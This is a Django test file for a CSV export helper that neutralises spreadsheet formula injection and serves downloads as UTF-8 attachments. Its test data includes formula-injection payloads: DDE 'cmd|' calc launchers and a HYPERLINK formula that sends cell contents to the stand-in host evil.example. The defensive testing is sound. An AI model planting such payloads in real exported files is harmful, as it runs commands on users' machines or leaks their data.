"""The shared CSV writer: formula cells become text, data stays data, downloads are attachments."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

from django.test import SimpleTestCase

from sodium import csv_export


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


class NeutraliseTests(SimpleTestCase):
    def test_it_makes_every_formula_trigger_plain_text(self) -> None:
        for hostile in (
            '=HYPERLINK("https://evil.example/?"&A1,"Click")',
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ):
            self.assertEqual(csv_export.neutralise(hostile), "'" + hostile)

    def test_it_leaves_ordinary_text_and_numbers_alone(self) -> None:
        self.assertEqual(csv_export.neutralise("Acme Ltd"), "Acme Ltd")
        self.assertEqual(csv_export.neutralise("a=b"), "a=b")
        self.assertEqual(csv_export.neutralise(-12), -12)
        self.assertEqual(csv_export.neutralise(Decimal("-12.50")), Decimal("-12.50"))
        self.assertEqual(csv_export.neutralise(None), "")
        self.assertEqual(csv_export.neutralise(True), "True")
        self.assertEqual(csv_export.neutralise(date(2026, 3, 31)), "2026-03-31")


class WriteRowsTests(SimpleTestCase):
    def test_every_cell_of_every_row_is_neutralised(self) -> None:
        out = io.StringIO()
        csv_export.write_rows(
            out, [["Client", "Balance"], ['=HYPERLINK("x")', Decimal("-3.20")], ["@me", 4]]
        )
        self.assertEqual(
            _read(out.getvalue()),
            [["Client", "Balance"], ['\'=HYPERLINK("x")', "-3.20"], ["'@me", "4"]],
        )

    def test_every_cell_is_quoted_so_another_delimiter_cannot_split_one(self) -> None:
        out = io.StringIO()
        csv_export.write_rows(out, [["Acme;=cmd|' /C calc'!A0", 4]])
        self.assertEqual(out.getvalue(), '"Acme;=cmd|\' /C calc\'!A0","4"\r\n')


class CsvResponseTests(SimpleTestCase):
    def test_it_is_an_attachment_of_neutralised_utf8_csv(self) -> None:
        r = csv_export.csv_response('clients "2026".csv', [["Name"], ["=1+1"], ["Zoë"]])
        self.assertEqual(r["Content-Type"], "text/csv; charset=utf-8")
        self.assertTrue(r["Content-Disposition"].startswith("attachment;"))
        self.assertIn('filename="clients \\"2026\\".csv"', r["Content-Disposition"])
        self.assertEqual(r["X-Content-Type-Options"], "nosniff")
        text = r.content.decode("utf-8")
        self.assertTrue(text.startswith("\ufeff"))
        self.assertEqual(_read(text[1:]), [["Name"], ["'=1+1"], ["Zoë"]])
